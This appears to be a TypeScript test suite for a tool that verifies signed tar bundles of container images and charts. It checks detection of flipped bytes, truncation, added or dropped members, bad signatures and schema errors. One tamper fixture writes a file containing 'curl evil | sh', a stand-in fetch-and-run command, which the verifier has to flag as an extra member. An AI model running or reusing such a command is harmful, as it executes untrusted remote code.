import assert from 'node:assert/strict';
import {
  copyFileSync,
  existsSync,
  readdirSync,
  readFileSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { openDescriptors } from '@lading/testkit';
import {
  assertVerified,
  BundleVerificationError,
  type ProblemKind,
  publicKeyFingerprint,
  STOPPED_MEMBER,
  TarFormatError,
  type VerifyReport,
  verifyBundle,
} from '../src/bundle/index.ts';
import { ExitCode } from '../src/errors/index.ts';
import {
  flipByteOf,
  type Keys,
  makeKeys,
  makeStaging,
  run,
  type Staging,
  sign,
  tarUp,
  tmp,
} from './bundle-read-fixture.ts';

function has(report: VerifyReport, member: string, kind: ProblemKind): boolean {
  return report.problems.some((p) => p.member === member && p.kind === kind);
}

function show(report: VerifyReport): string {
  return JSON.stringify(report.problems, null, 1);
}

describe('verifyBundle', () => {
  let root: string;
  let keys: Keys;
  let st: Staging;
  let good: string;
  const blobName = (k: keyof Staging['blobs']) => `blobs/sha256/${st.blobs[k].hex}`;

  before(() => {
    root = tmp();
    keys = makeKeys(root);
    st = makeStaging(join(root, 'staging'), keys);
    good = tarUp(st.dir, st.members, join(root, 'good.tar'));
  });
  after(() => rmSync(root, { recursive: true, force: true }));

  const copyGood = (name: string) => {
    const p = join(root, name);
    copyFileSync(good, p);
    return p;
  };

  it('verifies a good bundle: signature, every member, every image and chart', async () => {
    const progress: number[] = [];
    const report = await verifyBundle(good, {
      publicKey: keys.pub,
      onProgress: (p) => progress.push(p.bytes),
    });
    assert.equal(report.ok, true, show(report));
    assert.deepEqual(report.problems, []);
    assert.equal(report.signature.ok, true);
    assert.equal(report.signature.keyFingerprint, publicKeyFingerprint(readFileSync(keys.pub, 'utf8')));
    assert.equal(report.bundle.name, 'shop');
    assert.equal(report.bundle.version, '2.4.0');
    assert.equal(report.bundle.kind, 'tar');
    assert.equal(report.members, st.members.length);
    const dataBytes = st.members.reduce((n, m) => n + readFileSync(join(st.dir, m)).length, 0);
    assert.equal(report.bytes, dataBytes);
    assert.deepEqual(
      report.images.map((i) => [i.ref, i.digest, i.ok]),
      [
        [st.refs.app, st.blobs.manifest1.digest, true],
        [st.refs.multi, st.blobs.index.digest, true],
      ],
    );
    assert.deepEqual(
      report.charts.map((c) => [c.ref, c.ok]),
      [[st.refs.chart, true]],
    );
    assert.deepEqual(report.files, [{ path: 'files/values/web.yaml', ok: true, problems: [] }]);
    assert.ok(progress.length > 0 && progress.at(-1)! > 0);
    assertVerified(report); // does not throw
  });

  it('auditor path agrees: openssl and sha256sum accept the same test bundle', () => {
    const x = join(root, 'auditor');
    run('mkdir', ['-p', x]);
    run('tar', ['-xf', good, '-C', x]);
    assert.match(
      run(
        'openssl',
        ['dgst', '-sha256', '-verify', keys.pub, '-signature', 'SHA256SUMS.sig', 'SHA256SUMS'],
        x,
      ),
      /Verified OK/,
    );
    run('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], x);
  });

  it('also verifies the extracted directory', async () => {
    const x = join(root, 'extracted');
    run('mkdir', ['-p', x]);
    run('tar', ['-xf', good, '-C', x]);
    const report = await verifyBundle(x, { publicKey: keys.pub });
    assert.equal(report.ok, true, show(report));
    assert.equal(report.bundle.kind, 'directory');
    assert.equal(report.members, st.members.length);
    // A changed file in the directory is caught.
    const f = join(x, 'files/values/web.yaml');
    writeFileSync(f, 'replicaCount: 3\n');
    const bad = await verifyBundle(x, { publicKey: keys.pub });
    assert.equal(bad.ok, false);
    assert.ok(has(bad, 'files/values/web.yaml', 'digest'), show(bad));
    assert.equal(bad.files[0]?.ok, false);
  });

  it('accepts directory entries in the tar (tar -cf of folders)', async () => {
    const p = tarUp(
      st.dir,
      [
        'oci-layout',
        'lading.json',
        'SHA256SUMS',
        'SHA256SUMS.sig',
        'index.json',
        'sbom.cdx.json',
        'files',
        'blobs',
      ],
      join(root, 'dirs.tar'),
    );
    assert.match(run('tar', ['-tvf', p]), /^d.* blobs\/sha256\/$/m);
    const report = await verifyBundle(p, { publicKey: keys.pub });
    assert.equal(report.ok, true, show(report));
  });

  describe('tamper matrix', () => {
    const cases: Array<{
      name: string;
      make: () => string;
      member: () => string;
      kind: ProblemKind;
      failed?: () => string[];
    }> = [
      {
        name: 'a byte flipped in lading.json',
        make: () => {
          const p = copyGood('t-lading.tar');
          flipByteOf(p, Buffer.from('"name": "shop"'), 10);
          return p;
        },
        member: () => 'lading.json',
        kind: 'digest',
      },
      {
        name: 'a byte flipped in index.json',
        make: () => {
          const p = copyGood('t-index.tar');
          flipByteOf(
            p,
            Buffer.from(
              '"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:',
            ),
            2,
          );
          return p;
        },
        member: () => 'index.json',
        kind: 'digest',
      },
      {
        name: 'a byte flipped in SHA256SUMS',
        make: () => {
          const p = copyGood('t-sums.tar');
          flipByteOf(p, Buffer.from(`  files/values/web.yaml\n`), 5);
          return p;
        },
        member: () => 'SHA256SUMS.sig',
        kind: 'signature',
      },
      {
        name: 'a byte flipped in files/',
        make: () => {
          const p = copyGood('t-file.tar');
          flipByteOf(p, st.values, 3);
          return p;
        },
        member: () => 'files/values/web.yaml',
        kind: 'digest',
      },
      {
        name: 'a byte flipped in a layer blob',
        make: () => {
          const p = copyGood('t-layer.tar');
          flipByteOf(p, st.blobs.layer2.data.subarray(0, 64), 7);
          return p;
        },
        member: () => blobName('layer2'),
        kind: 'digest',
        failed: () => [st.refs.multi],
      },
      {
        name: 'a byte flipped in a manifest blob',
        make: () => {
          const p = copyGood('t-manifest.tar');
          flipByteOf(p, st.blobs.manifest2.data, 20);
          return p;
        },
        member: () => blobName('manifest2'),
        kind: 'digest',
        failed: () => [st.refs.multi],
      },
      {
        name: 'a shared layer flipped fails both images that use it',
        make: () => {
          const p = copyGood('t-shared.tar');
          flipByteOf(p, st.blobs.layer1.data.subarray(1000, 1064), 1);
          return p;
        },
        member: () => blobName('layer1'),
        kind: 'digest',
        failed: () => [st.refs.app, st.refs.multi],
      },
      {
        name: 'the tar truncated inside a blob',
        make: () => {
          const p = copyGood('t-trunc.tar');
          const buf = readFileSync(p);
          const at = buf.indexOf(st.blobs.layer1.data.subarray(0, 64));
          truncateSync(p, at + 100_000);
          return p;
        },
        member: () => blobName('layer1'),
        kind: 'truncated',
      },
      {
        name: 'a member dropped',
        make: () =>
          tarUp(
            st.dir,
            st.members.filter((m) => m !== blobName('layer2')),
            join(root, 't-drop.tar'),
          ),
        member: () => blobName('layer2'),
        kind: 'missing',
        failed: () => [st.refs.multi],
      },
      {
        name: 'a member added',
        make: () => {
          writeFileSync(join(st.dir, 'files/extra.sh'), 'curl evil | sh\n');
          return tarUp(st.dir, [...st.members, 'files/extra.sh'], join(root, 't-add.tar'));
        },
        member: () => 'files/extra.sh',
        kind: 'extra',
      },
      {
        name: 'the metadata reordered',
        make: () => {
          const m = [...st.members];
          [m[2], m[4]] = [m[4]!, m[2]!]; // index.json before SHA256SUMS
          return tarUp(st.dir, m, join(root, 't-order.tar'));
        },
        member: () => 'index.json',
        kind: 'order',
      },
      {
        name: 'a metadata member dropped (the SBOM)',
        make: () =>
          tarUp(
            st.dir,
            st.members.filter((m) => m !== 'sbom.cdx.json'),
            join(root, 't-nosbom.tar'),
          ),
        member: () => 'sbom.cdx.json',
        kind: 'missing',
      },
      {
        name: 'the signature swapped for one over other content',
        make: () => {
          const other = tmp();
          writeFileSync(join(other, 'SHA256SUMS'), 'other content\n');
          sign(other, keys.key);
          const saved = readFileSync(join(st.dir, 'SHA256SUMS.sig'));
          copyFileSync(join(other, 'SHA256SUMS.sig'), join(st.dir, 'SHA256SUMS.sig'));
          try {
            return tarUp(st.dir, st.members, join(root, 't-sig.tar'));
          } finally {
            writeFileSync(join(st.dir, 'SHA256SUMS.sig'), saved);
            rmSync(other, { recursive: true, force: true });
          }
        },
        member: () => 'SHA256SUMS.sig',
        kind: 'signature',
      },
      {
        name: 'SHA256SUMS rewritten to match a changed file, re-signed with another key',
        make: () => {
          const s = join(root, 'resigned');
          run('cp', ['-r', st.dir, s]);
          writeFileSync(join(s, 'files/values/web.yaml'), 'replicaCount: 99\n');
          run(
            'sh',
            [
              '-c',
              `sha256sum ${st.members.filter((m) => !m.startsWith('SHA256SUMS')).join(' ')} > SHA256SUMS`,
            ],
            s,
          );
          sign(s, keys.otherKey);
          return tarUp(s, st.members, join(root, 't-resigned.tar'));
        },
        member: () => 'SHA256SUMS.sig',
        kind: 'signature',
      },
    ];

    for (const c of cases) {
      it(`${c.name} → not ok, ${c.kind} on the member`, async () => {
        const p = c.make();
        const report = await verifyBundle(p, { publicKey: keys.pub });
        assert.equal(report.ok, false);
        const member = c.member();
        assert.ok(has(report, member, c.kind), `expected ${c.kind} on ${member}: ${show(report)}`);
        if (c.failed) {
          const failed = [...report.images, ...report.charts].filter((i) => !i.ok).map((i) => i.ref);
          assert.deepEqual(failed.sort(), c.failed().sort());
        }
        if (c.kind !== 'signature') assert.equal(report.signature.ok, true, 'the signature itself is fine');
        assert.throws(
          () => assertVerified(report),
          (err: unknown) =>
            err instanceof BundleVerificationError &&
            err.exitCode === ExitCode.verification &&
            err.members.includes(member) &&
            err.message.includes(member),
        );
        if (existsSync(join(st.dir, 'files/extra.sh'))) rmSync(join(st.dir, 'files/extra.sh'));
      });
    }

    it('the wrong public key → signature failure with that key fingerprint', async () => {
      const report = await verifyBundle(good, { publicKey: keys.otherPub });
      assert.equal(report.ok, false);
      assert.equal(report.signature.ok, false);
      assert.equal(
        report.signature.keyFingerprint,
        publicKeyFingerprint(readFileSync(keys.otherPub, 'utf8')),
      );
      // Verification stops at the first blob: nothing past the metadata is hashed.
      assert.deepEqual(
        report.problems.map((p) => [p.member, p.kind]),
        [
          ['SHA256SUMS.sig', 'signature'],
          [STOPPED_MEMBER, 'signature'],
        ],
      );
      assert.match(report.problems[1]!.message, /does not verify/);
      assert.ok(report.bytes < 64 * 1024, `${report.bytes} bytes hashed`);
      assert.deepEqual(report.images, []);
      // Stopping early still closes the bundle: no descriptor of it is left open in the process.
      assert.deepEqual(openDescriptors(good), [], `descriptors of ${good} left open`);
    });

    it('an unsigned bundle (no SHA256SUMS.sig): stops after the metadata, no "order" problems, says it is unsigned', async () => {
      const members = st.members.filter((m) => m !== 'SHA256SUMS.sig');
      const p = tarUp(st.dir, members, join(root, 'unsigned.tar'));
      for (const report of [
        await verifyBundle(p, { publicKey: keys.pub }),
        await verifyBundle(p, { publicKey: keys.pub, hashPool: undefined }),
      ]) {
        assert.equal(report.ok, false);
        assert.deepEqual(
          report.problems.map((x) => [x.member, x.kind]).sort(),
          [
            [STOPPED_MEMBER, 'signature'],
            ['SHA256SUMS.sig', 'missing'],
          ],
          show(report),
        );
        assert.match(report.problems.find((x) => x.member === STOPPED_MEMBER)!.message, /not signed/);
        assert.ok(report.bytes < 64 * 1024, `${report.bytes} bytes hashed of a bundle of 400 kB`);
        const err = new BundleVerificationError(report);
        assert.match(err.hint ?? '', /unsigned/);
        assert.doesNotMatch(err.hint ?? '', /wrong public key/);
      }
    });

    it('a blob whose content does not match its name (SHA256SUMS re-made and re-signed by the key holder)', async () => {
      // Even a validly signed bundle fails when a blob is stored under another digest.
      const s = join(root, 'misnamed');
      run('cp', ['-r', st.dir, s]);
      const name = blobName('chartLayer');
      writeFileSync(join(s, name), 'not the chart');
      run(
        'sh',
        ['-c', `sha256sum ${st.members.filter((m) => !m.startsWith('SHA256SUMS')).join(' ')} > SHA256SUMS`],
        s,
      );
      sign(s, keys.key);
      const report = await verifyBundle(tarUp(s, st.members, join(root, 't-misnamed.tar')), {
        publicKey: keys.pub,
      });
      assert.equal(report.signature.ok, true);
      assert.equal(report.ok, false);
      assert.ok(has(report, name, 'digest'), show(report));
      assert.deepEqual(
        report.charts.map((c) => c.ok),
        [false],
      );
      assert.deepEqual(
        report.images.map((c) => c.ok),
        [true, true],
      );
    });

    it('a duplicated member is reported', async () => {
      const p = join(root, 't-dup.tar');
      tarUp(st.dir, st.members, p);
      run('tar', ['--format=posix', '-rf', p, '-C', st.dir, 'files/values/web.yaml']);
      const report = await verifyBundle(p, { publicKey: keys.pub });
      assert.equal(report.ok, false);
      assert.ok(has(report, 'files/values/web.yaml', 'duplicate'), show(report));
    });

    it('data after the end-of-archive marker is reported', async () => {
      const p = copyGood('t-trailing.tar');
      writeFileSync(p, Buffer.concat([readFileSync(p), Buffer.from('appended payload')]));
      const report = await verifyBundle(p, { publicKey: keys.pub });
      assert.equal(report.ok, false);
      assert.ok(
        report.problems.some((x) => x.kind === 'extra' && x.member.includes('after end')),
        show(report),
      );
    });
  });

  describe('unusable input throws typed errors', () => {
    it('not a tar → TarFormatError (exit 2)', async () => {
      const p = join(root, 'garbage.tar');
      writeFileSync(p, Buffer.alloc(4096, 0x41));
      await assert.rejects(verifyBundle(p, { publicKey: keys.pub }), (err: unknown) => {
        return err instanceof TarFormatError && err.exitCode === ExitCode.usage;
      });
    });
    it('a missing bundle file → exit 2 naming it', async () => {
      await assert.rejects(verifyBundle(join(root, 'nope.tar'), { publicKey: keys.pub }), (err: unknown) => {
        return (err as { exitCode?: number }).exitCode === ExitCode.usage && String(err).includes('nope.tar');
      });
    });
    it('an unreadable public key → exit 2', async () => {
      await assert.rejects(verifyBundle(good, { publicKey: join(root, 'missing.pub') }), (err: unknown) => {
        return (err as { exitCode?: number }).exitCode === ExitCode.usage;
      });
    });
    it('an oversized metadata member → clear typed error', async () => {
      const s = join(root, 'bigmeta');
      run('cp', ['-r', st.dir, s]);
      writeFileSync(join(s, 'lading.json'), Buffer.alloc(16 * 1024 * 1024 + 1, 0x20));
      const p = tarUp(s, st.members, join(root, 'bigmeta.tar'));
      await assert.rejects(verifyBundle(p, { publicKey: keys.pub }), (err: unknown) => {
        return (err as { code?: string }).code === 'BUNDLE_MALFORMED' && String(err).includes('lading.json');
      });
    });
  });

  it('a differential bundle: omitted blobs are expected at the target, not missing', async () => {
    const s = makeStaging(join(root, 'diff'), keys, { omit: ['layer1'] });
    const p = tarUp(s.dir, s.members, join(root, 'diff.tar'));
    const report = await verifyBundle(p, { publicKey: keys.pub });
    assert.equal(report.ok, true, show(report));
    assert.deepEqual(report.expectedAtTarget, [s.blobs.layer1.digest]);
    assert.deepEqual(
      report.images.map((i) => i.expectedAtTarget),
      [[s.blobs.layer1.digest], [s.blobs.layer1.digest]],
    );
    assert.equal(report.since?.version, '2.3.0');
    // Without the since entry the same blob is missing.
    const lading = JSON.parse(readFileSync(join(s.dir, 'lading.json'), 'utf8'));
    lading.since = null;
    writeFileSync(join(s.dir, 'lading.json'), JSON.stringify(lading));
    run(
      'sh',
      ['-c', `sha256sum ${s.members.filter((m) => !m.startsWith('SHA256SUMS')).join(' ')} > SHA256SUMS`],
      s.dir,
    );
    sign(s.dir, keys.key);
    const bad = await verifyBundle(tarUp(s.dir, s.members, join(root, 'diff2.tar')), { publicKey: keys.pub });
    assert.equal(bad.ok, false);
    assert.ok(has(bad, `blobs/sha256/${s.blobs.layer1.hex}`, 'missing'), show(bad));
  });

  it('lading.json that breaks the schema (signed) → schema problem', async () => {
    const s = join(root, 'schema');
    run('cp', ['-r', st.dir, s]);
    const lading = JSON.parse(readFileSync(join(s, 'lading.json'), 'utf8'));
    delete lading.builder;
    writeFileSync(join(s, 'lading.json'), JSON.stringify(lading));
    run(
      'sh',
      ['-c', `sha256sum ${st.members.filter((m) => !m.startsWith('SHA256SUMS')).join(' ')} > SHA256SUMS`],
      s,
    );
    sign(s, keys.key);
    const report = await verifyBundle(tarUp(s, st.members, join(root, 'schema.tar')), {
      publicKey: keys.pub,
    });
    assert.equal(report.signature.ok, true);
    assert.equal(report.ok, false);
    assert.ok(has(report, 'lading.json', 'schema'), show(report));
    assert.equal(report.bundle.name, 'shop');
  });

  it('leaves the working folder as it was', () => {
    // verify only reads: nothing but our own fixtures in root
    const names = readdirSync(root);
    assert.ok(!names.some((n) => n.startsWith('.lading') || n.endsWith('.tmp')), names.join(','));
  });
});
